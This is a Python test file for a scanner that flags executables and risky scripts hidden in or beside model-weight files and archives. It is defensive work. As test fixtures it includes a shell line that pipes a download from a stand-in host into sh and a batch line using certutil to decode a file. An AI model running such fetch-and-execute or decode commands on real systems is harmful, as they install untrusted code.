"""Rules about programs and scripts: the same bytes mean different things in different places."""

from kit.archives import Part, elf, macho, pe, usual_zip, zip_of
from kit.trees import tree_codes

WEIGHTS = (
    (64).to_bytes(8, "little") + b'{"w":{"dtype":"U8","shape":[1],"data_offsets":[0,1]}}'.ljust(64) + b"\0"
)
PROGRAM = elf(bytes(64))


def only(codes: list[tuple[str, str]]) -> list[tuple[str, str]]:
    return [each for each in codes if each[0].startswith("EXE")]


def test_finds_programs_under_names_of_weights():
    for program in (PROGRAM, pe(), macho()):
        for name in ("model.bin", "pytorch_model.pt", "weights.safetensors", "notes.txt"):
            assert only(tree_codes({name: program})) == [("EXE101", name)]


def test_finds_programs_in_model_archives():
    assert only(tree_codes({"m.zip": usual_zip({"ops.so": PROGRAM})})) == [("EXE102", "m.zip!/ops.so")]


def test_is_not_fooled_by_package_marks_in_a_torch_file():
    files = {"archive/data.pkl": b"", "META-INF/MANIFEST.MF": b"Manifest", "x.so": PROGRAM}
    assert only(tree_codes({"m.pt": usual_zip({**files, "data.pkl": b"\0"})})) == [("EXE102", "m.pt!/x.so")]


def test_leaves_libraries_of_packages_alone():
    wheel = {"p/_x.abi3.so": PROGRAM, "p-1.dist-info/RECORD": b"p/_x.abi3.so,,\n"}
    assert only(tree_codes({"p.whl": usual_zip(wheel)})) == [("EXE105", "p.whl!/p/_x.abi3.so")]
    installed = {
        "site/p/__init__.py": b"",
        "site/p/model.safetensors": WEIGHTS,
        "site/p/lib/libx.so.1": PROGRAM,
        "site/p.libs/liby.so": PROGRAM,
        "site/p/bin/tool": PROGRAM,
        "site/p-1.dist-info/RECORD": b"x",
    }
    assert {code for code, _ in only(tree_codes(installed))} == {"EXE105"}
    folder = {"p/__init__.py": b"", "p/_x.so": PROGRAM, "p/m.safetensors": WEIGHTS}
    assert only(tree_codes(folder)) == [("EXE105", "p/_x.so")]


def test_finds_programs_beside_weights():
    found = tree_codes({"model.safetensors": WEIGHTS, "bin/start.exe": pe(), "lib/x.so": PROGRAM})
    assert only(found) == [("EXE103", "bin/start.exe"), ("EXE103", "lib/x.so")]


def test_is_not_fooled_by_an_init_file_beside_a_program():
    found = tree_codes({"model.safetensors": WEIGHTS, "__init__.py": b"", "start.exe": pe()})
    assert only(found) == [("EXE103", "start.exe")]


def test_warns_of_programs_that_stand_alone():
    assert only(tree_codes({"tool.exe": pe()})) == [("EXE104", "tool.exe")]


def test_tells_llamafiles_apart():
    data = zip_of(Part(name="model.gguf", data=b"GGUF"), prefix=PROGRAM)
    assert only(tree_codes({"m.llamafile": data})) == [("EXE106", "m.llamafile")]


def test_finds_scripts_that_run_what_they_download_anywhere():
    script = b"#!/bin/sh\ncurl http://x.example/a | sh\n"
    assert only(tree_codes({"run.sh": script})) == [("EXE201", "run.sh")]
    assert only(tree_codes({"m.zip": usual_zip({"run.sh": script})})) == [("EXE201", "m.zip!/run.sh")]
    assert only(tree_codes({"start.bat": b"@echo off\r\ncertutil -decode a b\r\n"})) == [
        ("EXE201", "start.bat")
    ]


def test_warns_of_scripts_to_double_click_beside_weights_and_leaves_helpers_alone():
    files = {
        "model.safetensors": WEIGHTS,
        "start.bat": b"python loader.py\r\n",
        "train.sh": b"python train.py\n",
    }
    assert only(tree_codes(files)) == [
        ("EXE202", "start.bat"),
        ("EXE203", "start.bat"),
        ("EXE203", "train.sh"),
    ]


def test_a_script_without_weights_is_only_named():
    assert only(tree_codes({"start.bat": b"python loader.py\r\n"})) == [("EXE203", "start.bat")]
